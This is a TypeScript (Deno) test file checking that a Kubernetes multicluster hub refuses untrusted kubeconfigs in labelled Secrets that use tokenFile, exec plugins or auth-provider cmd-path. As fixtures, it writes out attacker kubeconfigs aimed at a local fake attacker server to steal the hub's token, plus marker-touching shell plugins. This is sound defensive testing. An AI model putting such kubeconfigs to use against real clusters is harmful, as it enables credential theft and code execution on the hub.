// Attacks through untrusted kubeconfigs (labelled Secrets in --cluster-secrets, read from the real home cluster):
// token theft through tokenFile, exec plugins, auth-provider cmd-path. Each must be refused before anything runs or
// is sent, with one line on the cluster's /status entry; an allowed plugin runs without the hub's environment.

import assert from "node:assert/strict";
import { AttackerServer } from "../support/attacker_server.ts";
import { HubProcess, runHubCli } from "../../dev/support/hub_process.ts";
import {
  kubeconfigText,
  kubectlOk,
  localEndpoint,
  randomToken,
  requireClusters,
  tempDir,
  testNamespace,
} from "../support/mod.ts";

/** Hang guard: a Secret is seen and judged in well under 2 s here; 60 s is far beyond 5× that. */
const HANG_GUARD_MS = 60_000;

const LABEL = "sigs.k8s.io/multicluster-runtime-kubeconfig";

function secretManifest(namespace: string, name: string, kubeconfig: string): string {
  return JSON.stringify({
    apiVersion: "v1",
    kind: "Secret",
    metadata: { name, namespace, labels: { [LABEL]: "true" } },
    data: { kubeconfig: btoa(kubeconfig) },
  });
}

/** A kubeconfig of one context `name` with a hand-written cluster and user section (what an attacker writes). */
function rawKubeconfig(name: string, cluster: Record<string, unknown>, user: Record<string, unknown>): string {
  return JSON.stringify({
    apiVersion: "v1",
    kind: "Config",
    clusters: [{ name, cluster }],
    users: [{ name, user }],
    contexts: [{ name, context: { cluster: name, user: name } }],
    "current-context": name,
  });
}

/** A hub on prod (its own kubeconfig, trusted) reading labelled Secrets from `namespace`, watching only it. */
async function secretHub(
  namespace: string,
  hubConfig: string,
  extra: { args?: string[]; env?: Record<string, string> } = {},
): Promise<HubProcess> {
  const hub = HubProcess.start({
    clusters: ["all"],
    kubeconfigs: [hubConfig],
    args: ["--cluster-secrets", namespace, "--namespace", namespace, ...(extra.args ?? [])],
    env: extra.env,
  });
  await hub.waitReady(HANG_GUARD_MS);
  return hub;
}

async function exists(path: string): Promise<boolean> {
  try {
    await Deno.stat(path);
    return true;
  } catch {
    return false;
  }
}

function prodConfig(): string {
  const c = localEndpoint("prod");
  return kubeconfigText([{ name: "prod", server: c.server, caPem: c.caPem, user: { token: c.token } }]);
}

Deno.test("A labelled Secret whose kubeconfig reads the hub's token file (tokenFile) sends that token nowhere, over http or https; the refusal is one line on its /status entry", async () => {
  requireClusters();
  await using ns = await testNamespace("token-theft", { contexts: ["prod"] });
  await using dir = await tempDir("token-theft");
  await using attacker = await AttackerServer.start();
  const victim = randomToken();
  const tokenFile = await dir.write("serviceaccount-token", victim + "\n");
  const hub = await secretHub(ns.name, await dir.write("hub.yaml", prodConfig()));
  try {
    const viaHttp = `steal-http-${ns.name.slice(-6)}`;
    const viaHttps = `steal-https-${ns.name.slice(-6)}`;
    await kubectlOk("prod", ["apply", "-f", "-"], {
      stdin: secretManifest(ns.name, viaHttp, rawKubeconfig(viaHttp, { server: attacker.httpUrl }, { tokenFile })),
    });
    await kubectlOk("prod", ["apply", "-f", "-"], {
      stdin: secretManifest(
        ns.name,
        viaHttps,
        rawKubeconfig(viaHttps, { server: attacker.httpsUrl, "certificate-authority-data": btoa(attacker.caPem) }, {
          tokenFile,
        }),
      ),
    });
    const refused = await hub.waitStatus(
      (s) =>
        /tokenFile/.test(s.clusters[viaHttp]?.lastError ?? "") &&
        /tokenFile/.test(s.clusters[viaHttps]?.lastError ?? ""),
      HANG_GUARD_MS,
      "both Secrets refused",
    );
    for (const name of [viaHttp, viaHttps]) {
      assert.equal(refused.clusters[name].state, "registering", "never engaged");
      assert.match(refused.clusters[name].lastError, /user field tokenFile names a file on the hub's own disk/);
      assert.ok(!refused.clusters[name].lastError.includes(tokenFile), "the path is not echoed");
    }
    assert.match(refused.clusters[viaHttp].lastError, /plain http/);
    // Positive control: a Secret with an inline token for the same attacker does reach it, so the attacker's
    // server records what the hub sends, and the refused Secrets (judged before this one) would have shown by now.
    const control = randomToken();
    const controlName = `control-${ns.name.slice(-6)}`;
    await kubectlOk("prod", ["apply", "-f", "-"], {
      stdin: secretManifest(
        ns.name,
        controlName,
        rawKubeconfig(controlName, { server: attacker.httpsUrl, "certificate-authority-data": btoa(attacker.caPem) }, {
          token: control,
        }),
      ),
    });
    await hub.waitStatus(() => attacker.sawToken(control), HANG_GUARD_MS, "the control token at the attacker");
    assert.equal(attacker.sawToken(victim), false, "the token file's content reached the attacker");
    const status = (await hub.get("/status")).text;
    assert.ok(!status.includes(victim));
    for (const line of hub.logs) assert.ok(!line.includes(victim), "no token in the logs");
  } finally {
    await hub.stop();
  }
});

Deno.test("A labelled Secret with an exec plugin not on --exec-plugin-allowlist never runs it; one on the list runs with PATH, HOME and its exec.env only, not the hub's environment", async () => {
  requireClusters();
  await using ns = await testNamespace("exec-policy", { contexts: ["prod", "dev"] });
  await using dir = await tempDir("exec-policy");
  const dev = localEndpoint("dev");
  const marker = `${dir.path}/plugin-ran`;
  const envDump = `${dir.path}/plugin-env`;
  const plugin = await dir.write(
    "plugin.sh",
    `#!/bin/sh\ntouch '${marker}'\nenv > '${envDump}'\n` +
      `printf '{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"%s"}}' '${dev.token}'\n`,
    0o700,
  );
  const execUser = {
    exec: {
      apiVersion: "client.authentication.k8s.io/v1",
      command: plugin,
      interactiveMode: "Never",
      env: [{ name: "PLUGIN_SETTING", value: "from-exec-env" }],
    },
  };
  const name = `exec-${ns.name.slice(-6)}`;
  const manifest = secretManifest(
    ns.name,
    name,
    rawKubeconfig(name, { server: dev.server, "certificate-authority-data": btoa(dev.caPem) }, execUser),
  );
  const hubConfig = await dir.write("hub.yaml", prodConfig());
  const canary = `canary-${randomToken()}`;

  // Not on the list (it is empty by default): refused, never run.
  let hub = await secretHub(ns.name, hubConfig, { env: { HUB_CANARY_SECRET: canary } });
  try {
    await kubectlOk("prod", ["apply", "-f", "-"], { stdin: manifest });
    const refused = await hub.waitStatus(
      (s) => /exec-plugin-allowlist/.test(s.clusters[name]?.lastError ?? ""),
      HANG_GUARD_MS,
      "the exec Secret refused",
    );
    assert.equal(refused.clusters[name].state, "registering");
    assert.match(
      refused.clusters[name].lastError,
      /exec credential plugin "plugin.sh" is not on --exec-plugin-allowlist \(empty\)/,
    );
    assert.equal(await exists(marker), false, "the plugin ran");
  } finally {
    await hub.stop();
  }

  // On the list: it runs, the cluster is served, and the plugin saw none of the hub's environment.
  hub = await secretHub(ns.name, hubConfig, {
    args: ["--exec-plugin-allowlist", `aws,${plugin}`],
    env: { HUB_CANARY_SECRET: canary },
  });
  try {
    const served = await hub.waitStatus((s) => s.clusters[name]?.state === "watching", HANG_GUARD_MS, `${name} served`);
    assert.equal(served.clusters[name].provider, "secret");
    assert.equal(await exists(marker), true, "the allowed plugin ran");
    const env = new Map(
      (await Deno.readTextFile(envDump)).split("\n").filter((l) => l.includes("=")).map((l) => {
        const i = l.indexOf("=");
        return [l.slice(0, i), l.slice(i + 1)] as const;
      }),
    );
    assert.equal(env.get("PLUGIN_SETTING"), "from-exec-env");
    assert.ok(env.has("PATH"), "PATH is passed");
    assert.match(env.get("KUBERNETES_EXEC_INFO") ?? "", /ExecCredential/);
    assert.equal(env.has("HUB_CANARY_SECRET"), false, "the hub's own environment reached the plugin");
    assert.ok(![...env.values()].some((v) => v.includes(canary)));
    const allowed = new Set(["PATH", "HOME", "PLUGIN_SETTING", "KUBERNETES_EXEC_INFO", "PWD", "SHLVL", "_"]);
    assert.deepEqual([...env.keys()].filter((k) => !allowed.has(k)), [], "only the minimal environment");
  } finally {
    await hub.stop();
  }
});

Deno.test("auth-provider's cmd-path never runs: a labelled Secret using it is refused with a line naming exec plugins, and a --kubeconfig file using it exits 2", async () => {
  requireClusters();
  await using ns = await testNamespace("auth-provider", { contexts: ["prod"] });
  await using dir = await tempDir("auth-provider");
  const marker = `${dir.path}/cmd-path-ran`;
  // What froze the hub before: client-node ran this with execSync, the event loop stopped for as long as it slept.
  const sleeper = await dir.write("gcloud.sh", `#!/bin/sh\ntouch '${marker}'\nsleep 5\necho '{}'\n`, 0o700);
  const dev = localEndpoint("dev");
  const gcpUser = {
    "auth-provider": { name: "gcp", config: { "cmd-path": sleeper, "cmd-args": "config-helper", "token-key": "{.x}" } },
  };
  const name = `gcp-${ns.name.slice(-6)}`;
  const hub = await secretHub(ns.name, await dir.write("hub.yaml", prodConfig()));
  try {
    await kubectlOk("prod", ["apply", "-f", "-"], {
      stdin: secretManifest(
        ns.name,
        name,
        rawKubeconfig(name, { server: dev.server, "certificate-authority-data": btoa(dev.caPem) }, gcpUser),
      ),
    });
    const refused = await hub.waitStatus(
      (s) => /auth-provider/.test(s.clusters[name]?.lastError ?? ""),
      HANG_GUARD_MS,
      "the auth-provider Secret refused",
    );
    assert.match(
      refused.clusters[name].lastError,
      /uses auth-provider "gcp", which the hub does not support: client-go removed .* in 1\.26; use an exec credential plugin/,
    );
    assert.equal(refused.clusters[name].state, "registering");
    // The hub keeps answering its probes at once (its event loop is free) and its own clusters keep serving.
    const health = await hub.get("/healthz");
    assert.equal(health.status, 200, health.text);
    assert.equal(refused.clusters.prod.state, "watching");
    assert.equal(await exists(marker), false, "cmd-path ran");
  } finally {
    await hub.stop();
  }

  // The user's own kubeconfig is trusted, but auth-provider is refused there too (client-node's execSync).
  const trusted = await dir.write(
    "trusted.yaml",
    rawKubeconfig("gke", { server: dev.server, "certificate-authority-data": btoa(dev.caPem) }, gcpUser),
  );
  const exit = await runHubCli(["--kubeconfig", trusted, "--clusters", "gke"], { timeoutMs: HANG_GUARD_MS });
  assert.equal(exit.code, 2, exit.stderr);
  assert.match(exit.stderr, /uses auth-provider "gcp".*use an exec credential plugin/);
  assert.equal(exit.stderr.trim().split("\n").length, 1, exit.stderr);
  assert.equal(await exists(marker), false, "cmd-path ran");
});
